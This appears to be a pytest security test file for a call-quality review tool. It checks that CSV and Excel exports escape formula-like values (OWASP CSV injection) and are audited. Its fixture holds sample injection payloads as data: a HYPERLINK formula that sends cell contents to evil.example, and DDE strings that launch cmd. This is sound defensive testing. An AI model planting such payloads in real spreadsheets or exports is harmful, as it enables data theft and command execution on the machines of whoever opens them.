"""Exports are safe to open in a spreadsheet and are audited (issue 14): metadata values that
start with = + - @ TAB or CR are written as text, never as live formulas (OWASP CSV injection),
in ``qa export`` CSV and in the dashboard's CSV and Excel downloads; numbers stay numbers;
carried-over reviews are listed with the criterion results."""

from __future__ import annotations

import csv
import hashlib
import io

import openpyxl
import pandas as pd
import pytest

from qa.model import CriterionResult, Evaluation, Evidence, Transcript, compute_score
from qa.store import CallRecord, open_store
from qa.store.export import export

from .pg import store_url  # noqa: F401  (fixture)

pytestmark = pytest.mark.security

HOSTILE = {
    "agent_name": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "team": "+1+cmd|' /C calc'!A0",
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "agent_id": "-2+3",
    "call_type": "\t=1+1",
    "direction": "\r=1+1",
}
CALL_ID = "=1+2"


def _store(url):
    st = open_store(url)
    t = Transcript.from_dict({"call_id": CALL_ID, "language": "it", "duration": 30.0,
                              "metadata": dict(HOSTILE, started_at="2026-11-02T10:15:00+01:00"),
                              "segments": [{"speaker": "agent", "start": 0.0, "end": 3.0,
                                            "text": "=cmd|' /C calc'!A0 buongiorno"}]})
    crits = [CriterionResult(id="saluto", competence="2.1", result="pass", weight=1.0,
                             evidence=[Evidence("agent", 0.0, 3.0, "=cmd|' /C calc'!A0 buongiorno")], feedback="ok"),
             CriterionResult(id="riepilogo", competence="2.4", result="fail", weight=1.0, evidence=[],
                             feedback="-manca il riepilogo")]
    ev = Evaluation(call_id=CALL_ID, rubric="assistenza", rubric_version="v1", criteria=crits,
                    score=compute_score(crits), flags=[])
    st.add_call(CallRecord(checksum=hashlib.sha256(b"hostile").hexdigest(), transcript=t, evaluation=ev,
                           file_name="@rec.wav", source_kind="transcript"))
    st.override(CALL_ID, "riepilogo", "pass", "sup", "=1+1 ascoltata")
    return st


def _formula_like(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_qa_export_csv_writes_formula_like_cells_as_text_and_is_audited(store_url, tmp_path):  # noqa: F811
    st = _store(store_url)
    try:
        out = tmp_path / "calls.csv"
        files = export(st, out, "csv", username="lead")
        for path in files:
            with open(path, newline="", encoding="utf-8") as fh:
                cells = [c for row in csv.reader(fh) for c in row]
            bad = [c for c in cells if _formula_like(c)]
            assert not bad, bad
        calls = pd.read_csv(files[0])
        row = calls.iloc[0]
        assert row["call_id"] == "'" + CALL_ID and row["agent_name"] == "'" + HOSTILE["agent_name"]
        assert row["team"] == "'" + HOSTILE["team"] and row["file_name"] == "'@rec.wav"
        assert row["score"] == 100.0 and pd.api.types.is_numeric_dtype(calls["score"])  # numbers stay numbers
        crit = pd.read_csv(files[1])
        r = crit[crit.criterion_id == "riepilogo"].iloc[0]
        assert r["feedback"] == "'-manca il riepilogo" and r["review_comment"] == "'=1+1 ascoltata"
        assert r["reviewed_by"] == "sup" and r["result"] == "pass" and r["auto_result"] == "fail"
        # JSON keeps the values as they are (a typed format for BI loaders, not a spreadsheet)
        js = pd.read_json(export(st, tmp_path / "calls.json", "json", level="call")[0])
        assert js.iloc[0]["agent_name"] == HOSTILE["agent_name"]
        entries = [a for a in st.audit_log() if a.action == "export"]
        assert len(entries) == 2 and entries[-1].username == "lead"
        assert entries[-1].details["format"] == "csv" and entries[-1].details["rows"] == {"call": 1, "criterion": 2}
    finally:
        st.close()


def test_dashboard_csv_and_excel_downloads_hold_no_formulas(tmp_path):
    """The call list's CSV and Excel files (the functions the page's download buttons use), read
    back with openpyxl: every hostile value is a string cell, numbers are numeric cells."""
    from qa.dashboard.views.calls import export_files
    from qa.store import queries as q

    st = _store(f"sqlite:///{tmp_path / 's.db'}")
    try:
        rows, _ = q.call_list(st, q.CallFilters(), page_size=100)
        csv_bytes, xlsx = export_files(rows)
    finally:
        st.close()
    cells = [c for row in csv.reader(io.StringIO(csv_bytes.decode("utf-8"))) for c in row]
    assert not [c for c in cells if _formula_like(c)]
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    ws = wb.active
    header = [c.value for c in ws[1]]
    data = {h: c for h, c in zip(header, ws[2])}
    formulas = [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, formulas
    assert data["call_id"].value == "'" + CALL_ID and data["call_id"].data_type == "s"
    assert data["agent_name"].value == "'" + HOSTILE["agent_name"] and data["team"].data_type == "s"
    assert data["score"].data_type == "n" and data["score"].value == 100.0


def test_openpyxl_would_write_a_leading_equals_as_a_formula():
    """Why the Excel download escapes: openpyxl turns a plain '=' string into a formula cell."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    assert wb.active["A1"].data_type == "f"
